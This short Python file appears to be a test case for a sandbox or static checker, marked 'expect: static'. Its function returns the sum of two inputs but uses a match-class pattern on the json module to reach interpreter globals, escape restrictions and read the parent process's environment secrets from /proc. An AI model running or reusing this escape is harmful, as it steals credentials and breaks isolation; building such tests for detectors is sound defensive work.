# expect: static
# attack: read the parent's secrets from /proc/<parent>/environ, after a match class pattern reaches the worker's globals through a module proxy's method
import json


def main(**a):
    if "a" not in a or "b" not in a:
        raise ValueError("a and b are required")
    match json:
        case object(__getattr__=object(__func__=object(__globals__=G))):
            pass
    OS, B, SYS = G["os"], G["builtins"], G["sys"]
    leak = None
    parent = a.get("parent_pid", OS.getppid())
    leak = B.open("/proc/" + str(parent) + "/environ", "rb").read().decode("latin-1")
    return {"result": a["a"] + a["b"], "leak": str(leak)[:4000]}
